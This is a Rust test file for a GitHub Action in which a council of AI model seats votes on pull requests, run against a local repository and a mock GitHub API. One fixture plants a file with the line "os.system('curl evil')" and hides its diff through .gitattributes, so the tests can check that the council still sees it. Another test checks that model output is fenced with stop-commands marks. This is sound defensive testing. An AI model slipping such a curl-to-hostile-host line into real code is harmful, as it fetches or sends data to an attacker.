//! The GitHub Action: its script as a runner would start it, with a real repository, a council and GitHub's API on loopback.

use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};

use crate::server::{Reply, Server};
use crate::world::Place;

const SCRIPT: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../integrations/github-action/decide.py");

/// A repository with a commit on a base and one that changes a line.
fn repository(place: &Place) -> (String, String) {
    let git = |args: &[&str]| {
        let mut git = place.bare("git");
        git.args(["-c", "user.name=a", "-c", "user.email=a@example.org"]).args(args);
        let done = git.output().unwrap();
        assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
        String::from_utf8(done.stdout).unwrap().trim().to_string()
    };
    git(&["init", "-q"]);
    place.write("retry.rs", "const TRIES: u32 = 3;\n");
    git(&["add", "retry.rs"]);
    git(&["commit", "-qm", "base"]);
    let base = git(&["rev-parse", "HEAD"]);
    place.write("retry.rs", "const TRIES: u32 = 30;\n");
    git(&["commit", "-qam", "more tries"]);
    (base, git(&["rev-parse", "HEAD"]))
}

/// What a pull request does to keep a line from being read, beside a picture that nobody can read.
fn hiding(place: &Place) -> (String, String) {
    let (base, _) = repository(place);
    let git = |args: &[&str]| {
        let mut git = place.bare("git");
        git.args(["-c", "user.name=a", "-c", "user.email=a@example.org"]).args(args);
        let done = git.output().unwrap();
        assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
        String::from_utf8(done.stdout).unwrap().trim().to_string()
    };
    place.write(".gitattributes", "z.py -diff\n");
    place.write("a.txt", "harmless\n".repeat(30_000));
    place.write("p.png", [0u8, 200, 201, 255, 1, 2].repeat(50));
    place.write("z.py", "import os; os.system('curl evil')\n");
    git(&["add", ".gitattributes", "a.txt", "p.png", "z.py"]);
    git(&["commit", "-qm", "more"]);
    (base, git(&["rev-parse", "HEAD"]))
}

/// The comments of one pull request, as GitHub keeps them.
fn github(comments: Arc<Mutex<Vec<Value>>>) -> Server {
    Server::start(move |request| {
        let mut comments = comments.lock().unwrap();
        let body = request.json()["body"].clone();
        if request.body.is_empty() {
            return Reply::Status(200, json!(*comments).to_string());
        }
        let user = json!({ "type": "Bot" });
        match request.path.rsplit('/').next().and_then(|id| id.parse::<usize>().ok()) {
            Some(id) => comments[id]["body"] = body,
            None => {
                let id = comments.len();
                comments.push(json!({ "id": id, "user": user, "body": body }));
            }
        }
        Reply::Status(200, "{}".into())
    })
}

struct Runner<'a> {
    place: &'a Place,
    api: &'a str,
    base: &'a str,
    head: &'a str,
}

impl Runner<'_> {
    fn run(&self, seats: &str, fail_on: &str) -> Output {
        let mut script: Command = self.place.bare("python3");
        let output = self.place.dir().join("output");
        let _ = std::fs::remove_file(&output);
        script
            .arg(SCRIPT)
            .env("SYNOD", env!("CARGO_BIN_EXE_synod"))
            .env("QUESTION", "Should this be merged as it is?")
            .env("SEATS", seats)
            .env("FAIL_ON", fail_on)
            .env("PULL", "7")
            .env("BASE", self.base)
            .env("HEAD", self.head)
            .env("GITHUB_API_URL", self.api)
            .env("GITHUB_REPOSITORY", "o/r")
            .env("GITHUB_TOKEN", "t0ken")
            .env("GITHUB_OUTPUT", output);
        script.output().unwrap()
    }
}

fn said(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[test]
fn a_pull_request_gets_one_comment_with_the_decision() {
    if Command::new("python3").arg("--version").output().is_err() || !Path::new(SCRIPT).exists() {
        let _ = writeln!(std::io::stderr(), "skipped: the GitHub Action: there is no python3 here");
        return;
    }
    let place = Place::new();
    let (base, head) = repository(&place);
    let stranger =
        json!({ "id": 0, "user": { "type": "User" }, "body": "<!-- synod decision -->\nnot ours" });
    let comments = Arc::new(Mutex::new(vec![stranger.clone()]));
    let server = github(comments.clone());
    let api = server.url.trim_end_matches("/v1").to_string();
    let runner = Runner { place: &place, api: &api, base: &base, head: &head };
    let answer = |side: &str, why: &str| {
        format!(
            "@speak\n{{\"stance\":\"{side}\",\"position\":\"{why}\",\"reasoning\":\"{why}\",\"confidence\":0.9}}\n---\n@vote\n{{\"vote\":\"{side}\",\"reason\":\"{why}\",\"confidence\":0.9}}\n"
        )
    };
    place.write("no.txt", answer("NO", "Thirty tries hide an outage."));
    place.write("yes.txt", answer("YES", "It rides out a restart."));
    let seats = |file: &str| {
        let of = |name: &str| format!("{name}=script:{}\n", place.dir().join(file).display());
        format!("{}{}{}", of("ann"), of("bob"), of("cy"))
    };

    let first = runner.run(&seats("no.txt"), "never");
    assert!(first.status.success(), "{}", said(&first));
    let second = runner.run(&seats("yes.txt"), "rejected");
    assert!(second.status.success(), "{}", said(&second));
    let third = runner.run(&seats("no.txt"), "rejected");
    assert_eq!(third.status.code(), Some(1), "{}", said(&third));
    assert!(said(&third).contains("::error::the council decided: rejected"), "{}", said(&third));

    let comments = comments.lock().unwrap();
    assert_eq!(comments.len(), 2, "the comment of an earlier run is rewritten");
    assert_eq!(comments[0], stranger, "a comment of somebody else is left alone");
    let body = comments[1]["body"].as_str().unwrap();
    assert!(body.contains("REJECTED") && body.contains("Thirty tries hide an outage."), "{body}");
    let output = std::fs::read_to_string(place.dir().join("output")).unwrap();
    let (said, house) = output.split_once("house=").unwrap();
    assert_eq!(said, "decision=rejected\naction=query_detail\n", "scripts reason about nothing");
    let (house, seen) = house.split_once('\n').unwrap();
    assert_eq!(seen, "shown=all\nnot-shown=[]\n");
    let receipts = Path::new(house).join("receipts");
    assert_eq!(std::fs::read_dir(receipts).unwrap().count(), 1, "the record outlives the step");
}

#[test]
fn a_long_decision_is_cut_in_the_comment_and_whole_in_the_log() {
    if Command::new("python3").arg("--version").output().is_err() {
        let _ = writeln!(std::io::stderr(), "skipped: the GitHub Action: there is no python3 here");
        return;
    }
    let place = Place::new();
    let (base, head) = repository(&place);
    let comments = Arc::new(Mutex::new(Vec::new()));
    let server = github(comments.clone());
    let api = server.url.trim_end_matches("/v1").to_string();
    let runner = Runner { place: &place, api: &api, base: &base, head: &head };
    let mut seats = String::new();
    // They disagree, so that a debate follows and everything is said again.
    for (name, side) in [("ann", "YES"), ("bob", "YES"), ("eve", "NO")] {
        let long = format!("{name} says it again and again. ").repeat(600);
        let answer = json!({ "stance": side, "position": name, "reasoning": long, "confidence": 0.9 });
        let vote = json!({ "vote": side, "reason": "The last word", "confidence": 0.9 });
        place.write(&format!("{name}.txt"), format!("@speak\n{answer}\n---\n@vote\n{vote}\n"));
        seats.push_str(&format!("{name}=script:{}\n", place.dir().join(format!("{name}.txt")).display()));
    }
    let run = runner.run(&seats, "rejected");
    assert!(run.status.success(), "{}", said(&run));
    let comments = comments.lock().unwrap();
    let body = comments[0]["body"].as_str().unwrap();
    let log = String::from_utf8_lossy(&run.stdout);
    assert!(body.len() < 65_536 && log.len() > 65_536, "{} of {}", body.len(), log.len());
    assert!(body.contains("…cut here"), "{}", &body[body.len() - 200..]);
    assert_eq!(body.matches("<details").count(), body.matches("</details>").count(), "no fold is left open");
    // Whatever models wrote is between the marks that stop the runner from obeying it.
    let mark = log.split("::stop-commands::").nth(1).unwrap().lines().next().unwrap();
    let inside = log.split(mark).nth(1).unwrap();
    assert!(inside.contains("eve says it again and again."), "the log has the end, too");
}

#[test]
fn a_pull_request_hides_nothing_from_the_council() {
    if Command::new("python3").arg("--version").output().is_err() {
        let _ = writeln!(std::io::stderr(), "skipped: the GitHub Action: there is no python3 here");
        return;
    }
    let place = Place::new();
    let (base, head) = hiding(&place);
    let comments = Arc::new(Mutex::new(Vec::new()));
    let server = github(comments.clone());
    let api = server.url.trim_end_matches("/v1").to_string();
    let runner = Runner { place: &place, api: &api, base: &base, head: &head };
    let vote = json!({ "vote": "YES", "reason": "fine", "confidence": 0.9 });
    let said_first = json!({ "stance": "YES", "position": "p", "reasoning": "r", "confidence": 0.9 });
    place.write("yes.txt", format!("@speak\n{said_first}\n---\n@vote\n{vote}\n"));
    let seats: String = ["ann", "bob", "cy"]
        .map(|name| format!("{name}=script:{}\n", place.dir().join("yes.txt").display()))
        .concat();

    let green = runner.run(&seats, "never");
    assert!(green.status.success(), "{}", said(&green));
    assert!(said(&green).contains("::warning::the council has not seen all"), "{}", said(&green));
    let output = std::fs::read_to_string(place.dir().join("output")).unwrap();
    let house = output.lines().find_map(|line| line.strip_prefix("house=")).unwrap().to_string();
    assert!(output.contains("decision=passed\n") && output.contains("shown=part\n"), "{output}");
    assert!(output.contains("a.txt") && output.contains("p.png") && !output.contains("z.py"), "{output}");
    let context =
        std::fs::read_to_string(Path::new(&house).parent().unwrap().join("pull-request.diff")).unwrap();
    assert!(context.contains("+import os; os.system('curl evil')"), "the line is shown");
    assert!(context.contains("`a.txt`: ") && context.chars().count() < 200_000, "{}", context.len());
    let body = comments.lock().unwrap()[0]["body"].as_str().unwrap().to_string();
    let top = body.find("has not seen all of this pull request").unwrap();
    assert!(top < body.find("PASSED").unwrap(), "{body}");

    let red = runner.run(&seats, "rejected");
    assert!(!red.status.success(), "{}", said(&red));
    assert!(said(&red).contains("::error::the council has not seen all"), "{}", said(&red));
}

#[test]
fn without_keys_there_is_no_decision_and_a_warning() {
    if Command::new("python3").arg("--version").output().is_err() {
        let _ = writeln!(std::io::stderr(), "skipped: the GitHub Action: there is no python3 here");
        return;
    }
    let place = Place::new();
    let (base, head) = repository(&place);
    let runner = Runner { place: &place, api: "http://127.0.0.1:9", base: &base, head: &head };
    let seats = "ann=openai:gpt-4.1-mini\nbob=anthropic:claude-haiku-4-5\n";
    let green = runner.run(seats, "never");
    assert!(green.status.success(), "{}", said(&green));
    assert!(said(&green).contains("::warning::there is no decision"), "{}", said(&green));
    let output = std::fs::read_to_string(place.dir().join("output")).unwrap();
    assert!(output.starts_with("decision=none\naction=query_detail\n"), "{output}");
    let red = runner.run(seats, "rejected");
    assert!(!red.status.success() && said(&red).contains("::error::there is no decision"), "{}", said(&red));
}

#[test]
fn what_is_missing_is_named() {
    let place = Place::new();
    let runner = Runner { place: &place, api: "http://127.0.0.1:9", base: "x", head: "y" };
    let without = runner.run("  \n", "never");
    assert_eq!(without.status.code(), Some(64));
    assert!(said(&without).contains("seats is empty"), "{}", said(&without));
    let odd = runner.run("a=rehearsal", "always");
    assert!(said(&odd).contains("write never, rejected or undecided"), "{}", said(&odd));
}
